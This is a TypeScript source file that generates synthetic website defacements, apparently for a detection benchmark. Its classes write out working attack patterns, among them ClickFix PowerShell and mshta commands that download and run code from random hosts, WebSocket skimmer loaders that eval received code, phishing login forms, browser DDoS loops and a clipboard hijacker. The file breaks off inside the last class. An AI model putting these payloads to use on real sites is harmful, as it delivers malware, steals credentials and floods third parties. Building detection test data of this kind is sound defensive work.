/**
 * Fresh2 defacement classes: written after round 2, by someone who does not
 * read the engines, from public descriptions of real defacements, web
 * skimming, scams and hijacks. Each differs from every class in
 * defacements.ts and fresh-defacements.ts (not a re-wording of one) and
 * varies its templates, languages and scripts, domains and positions like
 * them. Scored in the `fresh2` group, never tuned on.
 */
import { type ChangeClass, attrTargets, occurrences, shown, textRuns, trimmed } from "./classes.js"
import type { Page } from "./corpus.js"
import { b64, jsUrl, scriptTag, style } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, swapPhone } from "./locales.js"
import { rels } from "./locate.js"
import { type Rng, alnum, base58, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, nick, political, randomDomain, signature, team } from "./words.js"

const fresh2 = (name: string, make: (page: Page, rng: Rng) => Change, wholePage = false): ChangeClass =>
  wholePage ? { name, kind: "defacement", group: "fresh2", make, wholePage } : { name, kind: "defacement", group: "fresh2", make }

const top = (page: Page) => page.spots.bodyOpenEnd
const head = (page: Page) => page.spots.headClose
const bottom = (page: Page) => page.spots.bodyClose
const lang = (page: Page): Lang => page.site.locale.lang
/** The site's language most of the time (attackers who target a site often write in its language), else English. */
const siteOr = <A>(rng: Rng, page: Page, table: Record<Lang, A>): A => table[chance(rng, 0.7) ? lang(page) : "en"]
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), head(page), top(page), bottom(page), slotAt(page.spots, "middle")])
/** The first slot after the page's contact e-mail (the contact block), else a slot near the bottom. */
const besideContact = (page: Page): number => {
  const at = occurrences(page, page.ids.email)[0]?.start
  return at === undefined ? slotAt(page.spots, "bottom") : page.spots.slots.find((s) => s > at) ?? bottom(page)
}

// Supply-chain compromises of packages served from public CDNs (Lottie Player, October 2024; ua-parser-js, October 2021; Ledger Connect Kit, December 2023; the polyfill.io domain and its sister CDNs, June 2024): the page now loads a compromised library version, or a library from one of those CDNs.
const cdnPackage = fresh2("library loaded from a public CDN in a compromised version", (page, rng) => {
  const [pkg, file, versions] = pick(rng, [
    ["@lottiefiles/lottie-player", "dist/lottie-player.js", ["2.0.5", "2.0.6", "2.0.7"]],
    ["ua-parser-js", "dist/ua-parser.min.js", ["0.7.29", "0.8.0", "1.0.0"]],
    ["@ledgerhq/connect-kit", "dist/umd/index.js", ["1.1.5", "1.1.6", "1.1.7"]],
    ["@solana/web3.js", "lib/index.iife.min.js", ["1.95.6", "1.95.7"]],
    ["coa", "compat.js", ["2.0.3", "2.0.4", "2.1.1"]],
    ["rc", "browser.js", ["1.2.9", "1.3.9", "2.3.9"]]
  ] as const)
  const v = pick(rng, versions)
  const src = pick(rng, [
    () => `https://cdn.jsdelivr.net/npm/${pkg}@${v}/${file}`,
    () => `https://unpkg.com/${pkg}@${v}/${file}`,
    () => `https://${pick(rng, ["cdn.polyfill.io", "polyfill.io"])}/v3/polyfill.min.js?features=${pick(rng, ["default", "es6", "Array.prototype.includes%2CPromise", "IntersectionObserver"])}`,
    () => `https://${pick(rng, ["cdn.bootcdn.net", "cdn.bootcss.com", "cdn.staticfile.net", "cdn.staticfile.org"])}/ajax/libs/${pick(rng, ["jquery/3.6.0/jquery.min.js", "vue/2.6.14/vue.min.js", "axios/1.6.2/axios.min.js", "lodash.js/4.17.21/lodash.min.js"])}`
  ])()
  const tag = chance(rng, 0.3) ? `<script src="${src}" crossorigin="anonymous"></script>` : scriptTag(rng, src)
  const use = pkg === "@lottiefiles/lottie-player" && src.includes(pkg) && chance(rng, 0.5)
    ? `<lottie-player src="https://assets${between(rng, 1, 9)}.lottiefiles.com/packages/lf20_${alnum(rng, 8)}.json" background="transparent" speed="1" style="width:300px;height:300px" loop autoplay></lottie-player>`
    : ""
  const existing = page.spots.elements.filter((e) => e.name === "script" && !e.inert && /jquery|polyfill|lodash|vue|axios|bootstrap/i.test(e.attribs.src ?? ""))
  const srcs = attrTargets(page, existing, "src")
  if (srcs.length > 0 && chance(rng, 0.3)) return splices(replace(pick(rng, srcs).value, src))
  return splices(insert(scriptSpot(rng, page), tag), ...(use === "" ? [] : [insert(anySlot(rng, page.spots), use)]))
})

// Tag-manager abuse in web-skimming reports (Sucuri and Sansec on Magento and WooCommerce shops, 2020–2025): the attacker's own Google Tag Manager container, whose tags carry the skimmer, loaded beside the site's scripts.
const gtmContainer = fresh2("attacker's Google Tag Manager container added", (page, rng) => {
  const id = `GTM-${upper(rng, 1)}${alnum(rng, between(rng, 5, 6)).toUpperCase()}`
  const url = `https://www.googletagmanager.com/gtm.js?id=${id}`
  const snippet = pick(rng, [
    () => `<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','${pick(rng, ["dataLayer", "dataLayer2", "gtmDL", "_dl"])}','${id}');</script>`,
    () => `<script async src="${url}"></script>`,
    () => `<script>var s=document.createElement("script");s.src=${jsUrl(rng, url)};document.head.appendChild(s);</script>`
  ])()
  const ns = chance(rng, 0.5) ? `<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=${id}" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>` : ""
  return splices(insert(pick(rng, [head(page), bottom(page), top(page)]), snippet), ...(ns === "" ? [] : [insert(top(page), ns)]))
})

// ClearFake and ClickFix campaigns (Proofpoint, Sekoia and others, 2024–2025): the page replaced by a copy of Cloudflare's "Just a moment…" check whose "verify you are human" box copies a command and asks the visitor to run it.
const fakeChallenge = fresh2("fake Cloudflare 'verify you are human' page (ClickFix)", (page, rng) => {
  const host = page.site.host
  const payload = `https://${randomDomain(rng)}/${pick(rng, ["verify", "captcha", "cf", alnum(rng, 6)])}${pick(rng, [".hta", ".ps1", ".txt", "/"])}`
  const cmd = pick(rng, [
    `powershell -w hidden -ep bypass -c "iex (iwr '${payload}' -UseBasicParsing)"`,
    `mshta ${payload} # ✅ I am not a robot - reCAPTCHA Verification ID: ${digits(rng, 4)}`,
    `cmd /c curl -s ${payload} | cmd`,
    `powershell -enc ${b64(`iex(New-Object Net.WebClient).DownloadString('${payload}')`)}`
  ])
  const [title, checking, box, steps, review] = siteOr<readonly [string, string, string, ReadonlyArray<string>, string]>(rng, page, {
    en: ["Just a moment...", "Verifying you are human. This may take a few seconds.", "Verify you are human", ["Press Windows + R", "Press CTRL + V", "Press Enter"], "needs to review the security of your connection before proceeding."],
    fr: ["Un instant…", "Vérification que vous êtes un humain. Cela peut prendre quelques secondes.", "Vérifiez que vous êtes humain", ["Appuyez sur Windows + R", "Appuyez sur CTRL + V", "Appuyez sur Entrée"], "doit vérifier la sécurité de votre connexion avant de continuer."],
    de: ["Einen Moment bitte…", "Es wird überprüft, ob Sie ein Mensch sind. Dies kann einige Sekunden dauern.", "Bestätigen Sie, dass Sie ein Mensch sind", ["Drücken Sie Windows + R", "Drücken Sie STRG + V", "Drücken Sie die Eingabetaste"], "muss die Sicherheit Ihrer Verbindung überprüfen, bevor Sie fortfahren können."],
    es: ["Un momento…", "Verificando que usted es un ser humano. Esto puede tardar unos segundos.", "Verifique que es un ser humano", ["Pulse Windows + R", "Pulse CTRL + V", "Pulse Intro"], "necesita revisar la seguridad de su conexión antes de continuar."],
    nl: ["Een ogenblik…", "Verifiëren dat u een mens bent. Dit kan enkele seconden duren.", "Verifieer dat u een mens bent", ["Druk op Windows + R", "Druk op CTRL + V", "Druk op Enter"], "moet de beveiliging van uw verbinding controleren voordat u verdergaat."],
    pt: ["Só um momento…", "Verificando se você é humano. Isso pode levar alguns segundos.", "Confirme que você é humano", ["Pressione Windows + R", "Pressione CTRL + V", "Pressione Enter"], "precisa verificar a segurança da sua conexão antes de continuar."],
    it: ["Solo un momento…", "Verifica che tu sia un essere umano. Potrebbero volerci alcuni secondi.", "Verifica di essere un essere umano", ["Premi Windows + R", "Premi CTRL + V", "Premi Invio"], "deve verificare la sicurezza della tua connessione prima di procedere."]
  })
  const ray = hex(rng, 16)
  const html = `<!DOCTYPE html><html lang="${lang(page)}"><head><title>${title}</title><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="robots" content="noindex,nofollow"><meta name="viewport" content="width=device-width,initial-scale=1">${style(rng, `body{font-family:system-ui,-apple-system,"Segoe UI",Roboto,sans-serif;margin:0}.main-wrapper{margin:8rem auto;max-width:60rem;padding:0 1.5rem}.h1{font-size:2.5rem;font-weight:500}.cb{border:1px solid #e0e0e0;background:#fafafa;padding:14px;width:300px}#steps{display:none}`)}</head><body><div class="main-wrapper" role="main"><div class="main-content"><h1 class="zone-name-title h1">${esc(host)}</h1><h2 class="h2" id="challenge-running">${checking}</h2><div class="cb"><label><input type="checkbox" id="${pick(rng, ["cb", "verify", "cf-chk"])}"> ${box}</label></div><ol id="steps">${steps.map((s) => `<li>${s}</li>`).join("")}</ol><div class="core-msg">${esc(host)} ${review}</div></div></div><div class="footer" role="contentinfo"><div class="footer-inner">Ray ID: <code>${ray}</code> · Performance &amp; security by ${pick(rng, ["Cloudflare", "<a href=\"https://www.cloudflare.com/\">Cloudflare</a>"])}</div></div><script>document.querySelector("input[type=checkbox]").addEventListener("click",function(){navigator.clipboard.writeText(${JSON.stringify(cmd)});document.getElementById("steps").style.display="block"});</script></body></html>`
  return { html }
}, true)

// Credential-phishing kits planted on compromised sites (shared-document lures in Microsoft, Proofpoint and abuse.ch reports): the page blurred behind a box asking the visitor to sign in with their e-mail provider to view a shared document.
const documentGate = fresh2("page blurred behind a 'sign in to view the document' box", (page, rng) => {
  const action = `https://${pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["next.php", "auth/login.php", "doc/verify.php", "owa/", alnum(rng, 6) + ".php"])}`
  const [heading, lead, pass, go] = siteOr(rng, page, {
    en: [pick(rng, ["Shared document", "You have received a secure file", "Invoice_2026.pdf shared with you"]), "Sign in with your e-mail provider to view this document.", "Password", "View document"],
    fr: ["Document partagé", "Connectez-vous avec votre messagerie pour consulter ce document.", "Mot de passe", "Voir le document"],
    de: ["Geteiltes Dokument", "Melden Sie sich mit Ihrem E-Mail-Anbieter an, um das Dokument anzuzeigen.", "Passwort", "Dokument anzeigen"],
    es: ["Documento compartido", "Inicie sesión con su proveedor de correo para ver este documento.", "Contraseña", "Ver documento"],
    nl: ["Gedeeld document", "Log in met uw e-mailprovider om dit document te bekijken.", "Wachtwoord", "Document bekijken"],
    pt: ["Documento compartilhado", "Entre com seu provedor de e-mail para ver este documento.", "Senha", "Ver documento"],
    it: ["Documento condiviso", "Accedi con il tuo provider di posta per visualizzare il documento.", "Password", "Visualizza documento"]
  })
  const providers = sample(rng, ["Outlook", "Office 365", "Gmail", "Yahoo", "AOL", "iCloud", "Other mail"], between(rng, 3, 6))
  const cls = `${pick(rng, ["doc", "pdf", "share", "viewer"])}-${alnum(rng, 4)}`
  const blur = style(rng, `body>*:not(.${cls}){filter:blur(${between(rng, 4, 10)}px);pointer-events:none}`)
  const buttons = providers.map((p) => `<button type="button" class="provider" data-p="${p}">${p}</button>`).join(" ")
  const box = `<div class="${cls}" style="position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;box-shadow:0 0 30px rgba(0,0,0,.5);padding:24px;z-index:${between(rng, 9999, 2147483647)};width:360px;font-family:Segoe UI,Arial"><h3>📄 ${esc(heading)}</h3><p>${lead}</p><div>${buttons}</div><form method="post" action="${action}"><input type="email" name="${pick(rng, ["email", "login", "user"])}" required><input type="password" name="${pick(rng, ["password", "passwd", "pass"])}" placeholder="${pass}" required><button type="submit">${go}</button></form></div>`
  return splices(insert(pick(rng, [head(page), top(page)]), blur), insert(pick(rng, [top(page), bottom(page)]), box))
})

// Zone-H and Mirror-H mirrors of defacements that keep the site's files and add one visible iframe: the defacer's page, hosted on a free host (GitHub Pages, Blogspot, Netlify, 000webhost, Pastebin), framed over the whole window.
const framedDefacement = fresh2("defacer's page framed over the whole window", (page, rng) => {
  const who = nick(rng).replace(/[^A-Za-z0-9]/g, "").toLowerCase() || "x" + alnum(rng, 5)
  const src = pick(rng, [
    `https://${who}.github.io/${pick(rng, ["", "index.html", "deface/", "hacked.html"])}`,
    `https://${who}${digits(rng, 2)}.blogspot.com/`,
    `https://${who}.netlify.app/`,
    `https://${who}.000webhostapp.com/index.html`,
    `https://pastebin.com/raw/${alnum(rng, 8)}`,
    `https://sites.google.com/view/${who}`,
    `https://${randomDomain(rng)}/${who}.html`
  ])
  const box = pick(rng, ["position:fixed;top:0;left:0;width:100%;height:100%", "position:fixed;inset:0;width:100vw;height:100vh", "position:absolute;top:0;left:0;width:100%;height:3000px"])
  const frame = `<iframe src="${src}" style="${box};border:0;z-index:${pick(rng, ["99999", "2147483647", "999999"])};background:#000" ${pick(rng, ["frameborder=\"0\"", "scrolling=\"no\"", "allowfullscreen"])}></iframe>`
  const out: Array<Splice> = [insert(pick(rng, [top(page), bottom(page)]), frame)]
  if (chance(rng, 0.3) && page.spots.title !== null) out.push(replace(page.spots.title, esc(signature(rng, nick(rng)).text)))
  return { splices: out }
})

/** Defacers' lines in scripts the older classes do not use: Chinese, Korean, Hebrew, Thai, Ukrainian, Hindi, Greek, Malay. */
const otherScripts = [
  "网站已被黑 — 你们的安全只是幻觉", "이 사이트는 해킹당했습니다. 보안을 점검하세요.", "האתר נפרץ. האבטחה שלכם היא אשליה.", "เว็บไซต์นี้ถูกแฮ็ก ระบบของคุณไม่ปลอดภัย",
  "Сайт зламано. Ваша безпека — ілюзія.", "यह वेबसाइट हैक हो गई है। आपकी सुरक्षा एक भ्रम है।", "Η ιστοσελίδα παραβιάστηκε. Η ασφάλειά σας είναι ψευδαίσθηση.", "Laman web ini telah digodam. Keselamatan anda lemah."
]

// Defacements left through stored XSS and injected scripts (Mirror-H and Zone-H entries whose page source looks intact): an inline script that rewrites the body, or writes a banner, at load time from an encoded message.
const scriptWritten = fresh2("defacement written into the page by an inline script", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const msg = pick(rng, [() => signature(rng, who).text, () => political(rng).text, () => `${pick(rng, otherScripts)} — ${who}`])()
  const markup = `<div style="background:#000;color:${pick(rng, ["#0f0", "red", "#fff"])};text-align:center;padding:${between(rng, 40, 200)}px 10px;font:bold ${between(rng, 24, 60)}px monospace">${esc(msg)}</div>`
  const utf8b64 = b64(markup)
  const decode = `decodeURIComponent(escape(atob("${utf8b64}")))`
  const code = pick(rng, [
    `document.addEventListener("DOMContentLoaded",function(){document.body.innerHTML=${decode}});`,
    `window.onload=function(){document.body.innerHTML=${decode};document.title=${JSON.stringify(msg)}};`,
    `document.write(decodeURIComponent("${encodeURIComponent(markup)}"));`,
    `setTimeout(function(){var d=document.createElement("div");d.innerHTML=${decode};document.body.insertBefore(d,document.body.firstChild)},${between(rng, 0, 1500)});`
  ])
  return splices(insert(pick(rng, [head(page), top(page), bottom(page), slotAt(page.spots, "middle")]), `<script>${code}</script>`))
})

/** A fabricated statement in a site's language, naming the site where it fits. */
const fabrications: Record<Lang, ReadonlyArray<(brand: string) => string>> = {
  en: [(b) => `${b} announces immediate closure: all accounts frozen`, () => "Tap water contaminated — do not drink until further notice", () => "Government confirms the elections are postponed indefinitely", (b) => `${b} director arrested for fraud, company under investigation`, () => "All schools closed from tomorrow by emergency decree"],
  fr: [(b) => `${b} annonce sa fermeture immédiate : tous les comptes gelés`, () => "Eau du robinet contaminée : ne pas la boire jusqu'à nouvel ordre", () => "Le gouvernement reporte les élections sans date", (b) => `Le directeur de ${b} arrêté pour fraude`],
  de: [(b) => `${b} stellt Betrieb sofort ein: alle Konten eingefroren`, () => "Leitungswasser verseucht – bis auf Weiteres nicht trinken", () => "Regierung verschiebt die Wahlen auf unbestimmte Zeit", (b) => `${b}-Geschäftsführer wegen Betrugs festgenommen`],
  es: [(b) => `${b} anuncia su cierre inmediato: todas las cuentas congeladas`, () => "Agua del grifo contaminada: no la beba hasta nuevo aviso", () => "El Gobierno aplaza las elecciones sin fecha", (b) => `Detenido el director de ${b} por fraude`],
  nl: [(b) => `${b} stopt per direct: alle rekeningen bevroren`, () => "Kraanwater besmet – drink het niet tot nader bericht", () => "Regering stelt verkiezingen voor onbepaalde tijd uit", (b) => `Directeur van ${b} gearresteerd voor fraude`],
  pt: [(b) => `${b} anuncia fechamento imediato: todas as contas congeladas`, () => "Água da torneira contaminada: não beba até novo aviso", () => "Governo adia as eleições por tempo indeterminado", (b) => `Diretor da ${b} é preso por fraude`],
  it: [(b) => `${b} annuncia la chiusura immediata: tutti i conti congelati`, () => "Acqua del rubinetto contaminata: non berla fino a nuovo avviso", () => "Il governo rinvia le elezioni a data da destinarsi", (b) => `Arrestato per frode il direttore di ${b}`]
}

// Hacked news agencies and government sites publishing false statements (Qatar News Agency, May 2017; Ukrainian outlets' false "capitulation" headlines, March 2022; the fake Associated Press report, April 2013): the page's main headline replaced in place by a fabricated one, nothing else touched.
const fabricatedHeadline = fresh2("main headline replaced by a fabricated statement", (page, rng) => {
  const brand = page.site.brand.charAt(0).toUpperCase() + page.site.brand.slice(1)
  const text = esc(pick(rng, siteOr(rng, page, fabrications))(brand))
  const heads = textRuns(page, 4).filter((t) => t.parent !== -1 && /^h[1-3]$/.test(page.spots.elements[t.parent]!.name))
  const target = heads.find((t) => page.spots.elements[t.parent]!.name === "h1") ?? heads[0] ?? textRuns(page, 20)[0]
  if (target === undefined) return splices(insert(slotAt(page.spots, "top"), `<h1>${text}</h1>`))
  return splices(replace(trimmed(page, target), text))
})

// Indonesian online-gambling hacks ("judi online", "slot gacor") of government, university and business sites, reported 2023–2025 by Indonesian CERTs and in search-console clean-ups: the content replaced by a slot-site landing page with "Daftar" and "Login" buttons and RTP figures, the title rewritten, often an AMP link to the gambling host.
const slotGacor = fresh2("'slot gacor' gambling landing page in place of the content", (page, rng) => {
  const site = pick(rng, ["SLOT88", "GACOR77", "MAXWIN138", "ZEUS4D", "OLYMPUS1000", `${pick(rng, ["SITUS", "LINK", "BANDAR"])}${upper(rng, 3)}${digits(rng, 2)}`])
  const host = randomDomain(rng)
  const games = sample(rng, ["Gates of Olympus", "Mahjong Ways 2", "Sweet Bonanza", "Starlight Princess", "Wild West Gold", "Aztec Gems", "Lucky Neko", "Koi Gate"], between(rng, 3, 6))
  const title = pick(rng, [`${site} ➤ Situs Slot Gacor Hari Ini Gampang Maxwin 2026`, `SLOT GACOR: Link Slot Online Terpercaya ${site}`, `${site} | Daftar Situs Judi Slot Online Resmi`])
  const body = `<div class="slot-landing" style="background:#0b0b0b;color:#ffd700;text-align:center;padding:20px"><h1>${esc(title)}</h1><p>${esc(site)} ${pick(rng, ["adalah situs slot gacor terpercaya dengan RTP tertinggi dan deposit via DANA, OVO, QRIS.", "menyediakan link slot online gampang menang dengan bonus new member 100%.", "situs judi online resmi, deposit pulsa tanpa potongan."])}</p><p><a href="https://${host}/daftar" style="background:#ffd700;color:#000;padding:10px 30px">DAFTAR</a> <a href="https://${host}/login" style="background:#c00;color:#fff;padding:10px 30px">LOGIN</a></p><table><tr><th>Game</th><th>RTP</th></tr>${games.map((g) => `<tr><td>${g}</td><td>${between(rng, 92, 98)}.${digits(rng, 1)}%</td></tr>`).join("")}</table><p>${pick(rng, ["Pola gacor", "Bocoran RTP live", "Jam hoki"])}: ${between(rng, 10, 23)}:00 – ${between(rng, 0, 9)}:00 WIB</p></div>`
  const out: Array<Splice> = [replace({ start: top(page), end: bottom(page) }, body)]
  if (page.spots.title !== null) out.push(replace(page.spots.title, esc(title)))
  if (chance(rng, 0.5)) out.push(insert(head(page), `<link rel="amphtml" href="https://${pick(rng, [host, `amp-${alnum(rng, 5)}.${pick(rng, ["pages.dev", "web.app", "netlify.app"])}`])}/${page.site.brand}/">`))
  return { splices: out }
}, true)

// SEO-hijack clean-ups (canonical and hreflang injection by hacked plugins, reported by Sucuri and Wordfence): the page's canonical link now names the attacker's domain, or new hreflang alternates point there, handing the page's ranking to another site.
const canonicalHijack = fresh2("canonical or hreflang link pointed to another domain", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${page.site.brand}.${pick(rng, ["shop", "online", "site", "store", "info"])}`])
  const path = new URL(page.site.url).pathname
  const canon = page.spots.elements.filter((e) => e.name === "link" && !e.inert && rels(e).includes("canonical"))
  const out: Array<Splice> = []
  const ts = attrTargets(page, canon, "href")
  if (ts.length > 0 && chance(rng, 0.7)) out.push(...ts.map((t) => replace(t.value, `https://${host}${path}`)))
  else if (chance(rng, 0.5)) out.push(insert(head(page), `<link rel="canonical" href="https://${host}${path}">`))
  if (out.length === 0 || chance(rng, 0.4)) {
    const langs = sample(rng, ["en", "fr", "de", "es", "it", "pt", "nl", "ja", "x-default"], between(rng, 2, 5))
    out.push(insert(head(page), langs.map((l) => `<link rel="alternate" hreflang="${l}" href="https://${host}/${l === "x-default" ? "" : l + "/"}${pick(rng, ["", page.site.brand + "/"])}">`).join("")))
  }
  return { splices: out }
})

// Sansec's reports on WebSocket skimmers (2021–2023, Magento and WooCommerce campaigns loading their payload over wss://): a small inline loader opens a WebSocket to a new host and runs the code it receives.
const websocketLoader = fresh2("WebSocket skimmer loader", (page, rng) => {
  const host = pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
  const url = `wss://${host}/${pick(rng, ["common", "ws", "socket", "api/v1/stream", alnum(rng, 6)])}`
  const run = pick(rng, ["new Function(e.data)()", "eval(e.data)", "eval(atob(e.data))", "(0,eval)(e.data)"])
  const open = pick(rng, [
    `var w=new WebSocket(${jsUrl(rng, url)});w.onmessage=function(e){${run}};w.onopen=function(){w.send(location.href)};`,
    `(function(){if(!/checkout|cart|payment|onepage|billing/i.test(location.pathname)&&${chance(rng, 0.5) ? "true" : "false"})return;var s=new WebSocket(${jsUrl(rng, url)});s.onmessage=function(e){${run};s.close()}})();`,
    `setTimeout(function(){var ws=new WebSocket(${jsUrl(rng, url)}+"?h="+location.host);ws.addEventListener("message",function(e){${run}})},${between(rng, 500, 5000)});`
  ])
  return splices(insert(scriptSpot(rng, page), `<script>${open}</script>`))
})

// Call-fraud and contact-hijack reports (call-forwarding and premium-rate fraud, injected tel: and mailto: links): the link behind the shown phone number or address now dials or writes to another one, the text visitors read unchanged.
const contactHref = fresh2("tel: or mailto: target changed, shown text kept", (page, rng) => {
  const other = swapPhone(page.site.locale, page.ids.phone, rng)
  const local = page.ids.email.split("@")[0]!
  const mail = `${pick(rng, [local, `${local}.${page.site.brand}`, page.site.brand])}@${pick(rng, [brandLookalike(rng, page.site.brand), "gmail.com", "outlook.com", "proton.me", randomDomain(rng)])}`
  const tels = attrTargets(page, shown(page, "a", (e) => /^\s*tel:/i.test(e.attribs.href ?? "")), "href")
  const mails = attrTargets(page, shown(page, "a", (e) => /^\s*mailto:/i.test(e.attribs.href ?? "")), "href")
  const useTel = tels.length > 0 && (mails.length === 0 || chance(rng, 0.6))
  if (useTel) return splices(...tels.map((t) => replace(t.value, `tel:${other.tel}`)))
  if (mails.length > 0) return splices(...mails.map((t) => replace(t.value, `mailto:${mail}`)))
  // Neither linked: link the shown number (as sites do) to the other one.
  const at = occurrences(page, page.ids.phone.national)[0] ?? occurrences(page, page.ids.phone.intl)[0]!
  return splices(insert(at.start, `<a href="tel:${other.tel}">`), insert(at.end, "</a>"))
})

// "Quishing" warnings (QR codes replaced or added on payment and donation pages; FTC, Action Fraud and bank alerts, 2023–2025): a "scan to pay" QR code encoding the attacker's payment details, placed beside the site's contact and payment details.
const paymentQr = fresh2("'scan to pay' QR code beside the payment details", (page, rng) => {
  const c = page.site.locale.country
  const payload = c === "in"
    ? `upi://pay?pa=${alnum(rng, 8)}@${pick(rng, ["ybl", "okaxis", "paytm", "oksbi"])}&pn=${encodeURIComponent(page.site.brand)}&cu=INR`
    : c === "br"
    ? `00020126580014BR.GOV.BCB.PIX0136${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}5204000053039865802BR5913${page.site.brand.slice(0, 13).toUpperCase()}6009SAO PAULO6304${hex(rng, 4).toUpperCase()}`
    : pick(rng, [
      `https://pay.${brandLookalike(rng, page.site.brand)}/${alnum(rng, 10)}`,
      `https://buy.stripe.com/${alnum(rng, 20)}`,
      `bitcoin:bc1q${alnum(rng, 38)}?amount=0.0${between(rng, 1, 9)}`,
      `BCD\n002\n1\nSCT\n\n${page.site.brand.toUpperCase()}\n${pick(rng, ["DE", "NL", "FR", "LT", "GB"])}${digits(rng, 2)}${digits(rng, 18)}\nEUR${between(rng, 10, 500)}.00`
    ])
  const size = pick(rng, ["150x150", "200x200", "180x180"])
  const src = pick(rng, [
    `https://api.qrserver.com/v1/create-qr-code/?size=${size}&amp;data=${encodeURIComponent(payload)}`,
    `https://quickchart.io/qr?size=${size.split("x")[0]}&amp;text=${encodeURIComponent(payload)}`,
    `/wp-content/uploads/2026/${String(between(rng, 1, 12)).padStart(2, "0")}/qr-${alnum(rng, 6)}.png`
  ])
  const label = siteOr(rng, page, { en: "Scan to pay", fr: "Scannez pour payer", de: "Zum Bezahlen scannen", es: "Escanee para pagar", nl: "Scan om te betalen", pt: "Escaneie para pagar", it: "Scansiona per pagare" })
  const img = `<figure class="${pick(rng, ["pay-qr", "qr", "payment-code"])}"><img src="${src}" alt="${label}" width="${size.split("x")[0]}"><figcaption>${label}</figcaption></figure>`
  return splices(insert(chance(rng, 0.8) ? besideContact(page) : anySlot(rng, page.spots), img))
})

// Visitors conscripted into denial-of-service attacks (the "Great Cannon" injection against GitHub, March 2015; hacktivists' JavaScript DDoS code on hacked WordPress sites in 2022, reported by Wordfence and Sucuri): a script requesting third-party targets over and over.
const ddosScript = fresh2("visitors' browsers flooding a third-party target", (page, rng) => {
  const targets = Array.from({ length: between(rng, 1, 5) }, () => `https://${pick(rng, [randomDomain(rng), `www.${pick(rng, ["mil", "gov", "bank", "news", "portal"])}-${alnum(rng, 4)}.${pick(rng, ["ru", "ua", "il", "in", "ir", "gov"])}`])}/${pick(rng, ["", "search?q=", "?s=", "wp-login.php?", "index.php?r="])}`)
  const list = JSON.stringify(targets)
  const code = pick(rng, [
    `var t=${list};setInterval(function(){t.forEach(function(u){fetch(u+Math.random(),{mode:"no-cors",cache:"no-store"})})},${between(rng, 10, 500)});`,
    `(function(){var t=${list},i=0;function f(){var m=new Image();m.src=t[i++%t.length]+Date.now();setTimeout(f,${between(rng, 5, 100)})}f()})();`,
    `var T=${list};for(var k=0;k<${between(rng, 4, 32)};k++){(function loop(){var x=new XMLHttpRequest();x.open("GET",T[Math.floor(Math.random()*T.length)]+Math.random());x.onloadend=loop;x.send()})()}`
  ])
  return splices(insert(scriptSpot(rng, page), `<script>${chance(rng, 0.3) ? `eval(atob("${b64(code)}"))` : code}</script>`))
})

/** A hack-and-leak claim in the attackers' language (several in scripts the older classes do not use). */
const leakClaims = [
  "We have your database. Here is a sample.", "Your customers' data is now public.", "הדלפנו את מסד הנתונים שלכם. הנה דוגמה.", "بيانات عملائكم أصبحت بين أيدينا",
  "Ваша база даних у нас. Ось зразок.", "你们的数据库已被我们获取，以下为样本。", "당신들의 데이터베이스를 확보했습니다. 샘플을 공개합니다.", "आपका डेटाबेस हमारे पास है। यह एक नमूना है।",
  "Veritabanınız elimizde. İşte bir örnek.", "Database kalian sudah kami ambil. Ini contohnya.", "پایگاه داده شما در دست ماست"
]

// Hack-and-leak defacements (hacktivist groups posting samples of stolen databases on the defaced page, against Israeli, Iranian, Indian, Russian and Ukrainian sites, 2022–2024): a table of customer or staff records "from your database" with the group's claim.
const leakSample = fresh2("leaked-data sample table with the group's claim", (page, rng) => {
  const who = team(rng)
  const claim = pick(rng, leakClaims)
  const rows = Array.from({ length: between(rng, 4, 12) }, () => {
    const user = `${pick(rng, ["a", "d", "m", "s", "j", "k", "r", "n"])}${alnum(rng, between(rng, 3, 7))}`
    return `<tr><td>${between(rng, 1000, 99999)}</td><td>${user}${"*".repeat(between(rng, 2, 4))}@${pick(rng, ["gmail.com", "yahoo.com", "hotmail.com", page.site.domain])}</td><td>+${page.site.locale.phones[0]!.cc} ${digits(rng, 3)}***${digits(rng, 2)}</td><td><code>$2y$10$${base58(rng, 22)}…</code></td></tr>`
  }).join("")
  const size = `${between(rng, 2, 900)}${pick(rng, [" MB", " GB", "k rows", "k users"])}`
  const box = `<section class="${pick(rng, ["leak", "dump", "proof"])}" style="background:#111;color:#eee;padding:20px;margin:0;font-family:monospace"><h2 style="color:#e53935">${esc(claim)}</h2><p>${esc(who)} · ${size} · ${pick(rng, ["Full dump on our Telegram", "Download link soon", "Price: 2 BTC", "#OpLeak"])}</p><table border="1"><tr><th>id</th><th>email</th><th>phone</th><th>password</th></tr>${rows}</table></section>`
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), box))
})

// Clipper scripts injected into sites (crypto-address and IBAN clippers, copy-event hijacking reported by Sucuri and Malwarebytes): when a visitor copies text, wallet addresses or IBANs in it are swapped for the attacker's.
const clipboardHijack = fresh2("copied wallet addresses or IBANs swapped by a script", (page, rng) => {
  const btc = `bc1q${alnum(rng, 38)}`
  const eth = `0x${hex(rng, 40)}`
  const iban = `${pick(rng, ["LT", "DE", "GB", "NL", "ES"])}${digits(rng, 2)}${digits(rng, 16)}`
  const code = pick(rng, [
